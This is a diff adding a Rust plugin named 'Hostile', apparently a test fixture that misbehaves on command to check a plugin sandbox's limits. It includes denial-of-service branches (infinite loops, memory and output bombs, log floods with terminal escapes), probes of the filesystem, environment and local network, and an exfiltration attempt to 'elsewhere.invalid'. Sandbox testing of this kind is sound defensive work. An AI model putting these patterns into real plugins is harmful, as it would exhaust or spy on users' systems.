@@ -1,0 +1,268 @@
+//! A generator that misbehaves on demand: `{"resolve": …, "do": …}` names what it does in each call.
+
+use std::hint::black_box;
+
+use serde_json::{Value, json};
+
+wit_bindgen::generate!({
+    path: "../../../../../wit/since-v0.1.0",
+    world: "plugin",
+    generate_all,
+});
+
+use bootsplice::generator::archive::{Conflict, EntryAttrs, Sink, TemplateFormat};
+use bootsplice::generator::blobs::{Blob, BlobBuilder};
+use bootsplice::generator::types::{Diagnostic, Error, Instance, OsFamily, Severity, Target};
+use bootsplice::generator::{cache, fetch, inventory, job};
+use exports::bootsplice::generator::generator::{Guest as Generator, LockFile, Locked, Pin, Summary};
+use exports::bootsplice::generator::plugin_info::{CapabilityRequest, Descriptor, Example, Guest as Info, StepStage};
+
+struct Hostile;
+export!(Hostile);
+
+impl Info for Hostile {
+    fn describe() -> Descriptor {
+        Descriptor {
+            id: "hostile".into(),
+            version: "0.0.1".into(),
+            title: "Hostile".into(),
+            summary: "Misbehaves on demand".into(),
+            os_families: vec![OsFamily::Linux],
+            stage: StepStage::Files,
+            capabilities: CapabilityRequest {
+                fetch: vec!["${config:/urls/*}".into()],
+                secrets: vec!["/secrets/*".into()],
+            },
+            config_schema: json!({"type": "object", "properties": {"do": {"type": "string"}}}).to_string(),
+            examples: vec![Example {
+                title: "Nothing".into(),
+                config: "{\"do\": \"nothing\"}".into(),
+            }],
+        }
+    }
+
+    fn validate(target: Option<Target>, config: String) -> Vec<Diagnostic> {
+        let config: Value = serde_json::from_str(&config).unwrap();
+        let say = |code: &str, message: String| Diagnostic {
+            severity: Severity::Hint,
+            pointer: String::new(),
+            code: code.into(),
+            message,
+            hint: None,
+        };
+        match config["validate"].as_str() {
+            // Reaches for everything that a pure call may not have.
+            Some("reach") => vec![
+                say("fetch", format!("{:?}", fetch::get(&request(&config, 0)))),
+                say("cache", format!("{:?}", cache::get("k").is_some())),
+                say("inventory", format!("{:?}", inventory::read_file("os-release").is_some())),
+                say("builder", format!("{:?}", BlobBuilder::new().write(b"x"))),
+                say("target", format!("{}", target.is_some())),
+            ],
+            Some("loop") => loop {
+                black_box(1);
+            },
+            _ => vec![],
+        }
+    }
+}
+
+impl Generator for Hostile {
+    fn resolve(target: Target, config: String, previous: Option<Locked>) -> Result<LockFile, Error> {
+        let config: Value = serde_json::from_str(&config).unwrap();
+        let mut lock = LockFile {
+            pins: vec![],
+            state: None,
+            fresh_for_s: None,
+            needs_instance: config["needs_instance"].as_bool().unwrap_or(false),
+            max_output: 1 << 20,
+        };
+        match config["resolve"].as_str().unwrap_or("nothing") {
+            "fetch" => {
+                for index in 0..config["urls"].as_array().map_or(0, Vec::len) {
+                    let got = fetch::get(&request(&config, index))?;
+                    lock.pins.push(pin(&config, index, got.content.digest(), got.content.size()));
+                }
+            }
+            // Pins a digest that it knows from elsewhere, without fetching it.
+            "steal" => lock.pins.push(pin(&config, 0, config["digest"].as_str().unwrap().into(), 1)),
+            "many" => {
+                let requests: Vec<_> = (0..10_000).map(|_| request(&config, 0)).collect();
+                let answers = fetch::get_all(&requests);
+                let last = answers.into_iter().last().unwrap();
+                last?;
+            }
+            "state" => {
+                let builder = BlobBuilder::new();
+                builder.write(format!("{} {:?}", target.source_date_epoch, random()).as_bytes())?;
+                builder.append(&cache_or_inventory())?;
+                lock.state = Some(builder.finish()?);
+                let again = previous.is_some_and(|previous| previous.state.is_some());
+                lock.fresh_for_s = Some(if again { 2 } else { 1 });
+            }
+            "sleep" => std::thread::sleep(std::time::Duration::from_secs(3600)),
+            _ => {}
+        }
+        Ok(lock)
+    }
+
+    fn generate(target: Target, config: String, pinned: Locked, who: Option<Instance>, dest: &Sink) -> Result<Summary, Error> {
+        let config: Value = serde_json::from_str(&config).unwrap();
+        let mut notes = vec![];
+        match config["do"].as_str().unwrap_or("nothing") {
+            "trap" => panic!("on purpose"),
+            "loop" => loop {
+                black_box(1);
+            },
+            "recurse" => {
+                black_box(recurse(1));
+            }
+            "memory" => {
+                let mut held = vec![];
+                loop {
+                    held.push(vec![1_u8; 1 << 20]);
+                    black_box(&held);
+                }
+            }
+            // Does not care what it is told.
+            "output" => {
+                for index in 0..100_000 {
+                    let _ = dest.put_bytes(&format!("/bomb/{index}"), &attrs(), &[0; 1 << 18]);
+                }
+            }
+            "entries" => {
+                for index in 0..200_000 {
+                    dest.put_dir(&format!("/bomb/{index}"), &attrs())?;
+                }
+            }
+            "log" => {
+                for _ in 0..50_000 {
+                    job::log(job::Level::Info, "flood \u{1b}[2J of words", &[]);
+                    println!("and more of it");
+                }
+            }
+            "handles" => {
+                let mut held: Vec<Blob> = vec![];
+                for _ in 0..100_000 {
+                    let builder = BlobBuilder::new();
+                    builder.write(b"x")?;
+                    held.push(builder.finish()?);
+                }
+            }
+            "argument" => dest.put_bytes("/big", &attrs(), &vec![0; 16 << 20])?,
+            "probe" => {
+                let report = json!({
+                    "epoch": target.source_date_epoch,
+                    "now": std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs(),
+                    "random": random(),
+                    "files": std::fs::read_dir("/").is_ok(),
+                    "write": std::fs::write("/tmp/x", "x").is_ok(),
+                    "environment": std::env::vars().count(),
+                    "arguments": std::env::args().count(),
+                    "connect": std::net::TcpStream::connect("127.0.0.1:22").is_ok(),
+                    "bind": std::net::TcpListener::bind("127.0.0.1:0").is_ok(),
+                    "resolve": std::net::ToSocketAddrs::to_socket_addrs(&("localhost", 80)).is_ok(),
+                    "instance": who.as_ref().map(|who| who.id.clone()),
+                    "cache": cache::get("k").is_some(),
+                    "cache_put": BlobBuilder::new().finish().is_ok_and(|blob| cache::put("k", &blob, None).is_ok()),
+                    "inventory": inventory::read_file("os-release").is_some(),
+                });
+                dest.put_bytes("/probe.json", &attrs(), report.to_string().as_bytes())?;
+            }
+            "fetch-unpinned" => {
+                let got = fetch::get(&request(&config, 0))?;
+                dest.put_blob("/got", &attrs(), &got.content)?;
+            }
+            "fetch-pins" => {
+                for (index, pin) in pinned.pins.iter().enumerate() {
+                    let mut request = request(&config, 0);
+                    request.urls = vec!["https://elsewhere.invalid/exfiltrate?secret=1".into()];
+                    request.digest = Some(pin.digest.clone());
+                    let got = fetch::get(&request)?;
+                    dest.put_blob(&format!("/got/{index}"), &attrs(), &got.content)?;
+                }
+            }
+            "paths" => {
+                for path in config["paths"].as_array().unwrap() {
+                    let result = dest.put_bytes(path.as_str().unwrap(), &attrs(), b"x");
+                    notes.push(format!("{path}: {}", if result.is_ok() { "taken" } else { "refused" }));
+                }
+            }
+            "template" => dest.put_template("/etc/motd", &attrs(), config["text"].as_str().unwrap(), TemplateFormat::Plain)?,
+            "unfinished" => {
+                dest.put_bytes("/first", &attrs(), b"x")?;
+                return Err(Error::Fault("gave up half way".into()));
+            }
+            "patient" => {
+                while !job::is_cancelled() {
+                    black_box(1);
+                }
+                return Err(Error::Cancelled);
+            }
+            "write" => {
+                dest.put_bytes("/etc/b", &attrs(), b"second")?;
+                let writer = dest.create("/etc/a", &attrs())?;
+                for _ in 0..5 {
+                    writer.write(&[b'a'; 200_000])?;
+                }
+                writer.finish()?;
+                dest.put_symlink("/etc/c", "b")?;
+                notes.push("written".into());
+            }
+            _ => {}
+        }
+        Ok(Summary {
+            notes,
+            reboot_required: false,
+        })
+    }
+}
+
+fn attrs() -> EntryAttrs {
+    EntryAttrs {
+        mode: 0o644,
+        owner: None,
+        on_conflict: Conflict::Replace,
+    }
+}
+
+fn request(config: &Value, index: usize) -> fetch::Request {
+    fetch::Request {
+        urls: vec![config["urls"][index].as_str().unwrap_or("https://nowhere.invalid/").into()],
+        digest: config["digest"].as_str().map(str::to_owned),
+        size: None,
+        max_size: config["max_size"].as_u64().unwrap_or(1 << 30),
+        credential: config["credential"].as_str().map(str::to_owned),
+        max_age: config["max_age"].as_u64().map(|seconds| seconds as u32),
+    }
+}
+
+fn pin(config: &Value, index: usize, digest: String, size: u64) -> Pin {
+    Pin {
+        name: format!("pin-{index}"),
+        version: "1".into(),
+        urls: vec![config["urls"][index].as_str().unwrap().into()],
+        digest,
+        size,
+        attributes: vec![],
+    }
+}
+
+fn cache_or_inventory() -> Blob {
+    if let Some(kept) = cache::get("release") {
+        return kept;
+    }
+    let file = inventory::read_file("os-release").expect("the test gives one");
+    cache::put("release", &file, Some(3600)).expect("the cache takes a small value");
+    file
+}
+
+fn random() -> u64 {
+    use std::hash::{BuildHasher, Hasher};
+    std::hash::RandomState::new().build_hasher().finish()
+}
+
+#[expect(unconditional_recursion, reason = "that is the attack")]
+fn recurse(n: u64) -> u64 {
+    black_box(recurse(black_box(n) + 1)) + 1
+}
